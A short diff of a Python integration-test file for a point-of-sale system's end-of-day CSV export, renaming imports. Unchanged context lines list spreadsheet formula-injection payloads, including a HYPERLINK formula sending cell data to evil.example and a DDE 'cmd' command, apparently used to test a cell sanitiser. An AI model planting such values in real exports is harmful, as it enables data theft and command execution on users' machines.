@@ -17,8 +17,8 @@ from oncopos.adapters.db.models.people import Staff
 from oncopos.domain.csv_cells import safe_cell
 from oncopos.domain.errors import InvalidInput
 from oncopos.domain.staff import validate_display_name
-from oncopos.services.eod_export import report_csv
-from tests.integration.eod_helpers import DAY, LUC, MANAGER, MONA, Day, known_day, local
+from oncopos.services.end_of_day_export import report_csv
+from tests.integration.end_of_day_helpers import DAY, LUC, MANAGER, MONA, Day, known_day, local
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Luc")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")
